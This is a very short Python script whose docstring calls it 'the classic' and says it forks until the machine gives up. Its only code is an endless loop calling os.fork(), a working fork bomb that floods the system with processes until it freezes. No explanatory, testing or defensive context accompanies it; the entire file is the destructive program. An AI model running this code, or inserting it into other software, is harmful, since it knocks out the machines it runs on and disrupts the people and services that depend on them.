"""The classic: forks until the machine gives up."""

import os

while True:
    os.fork()
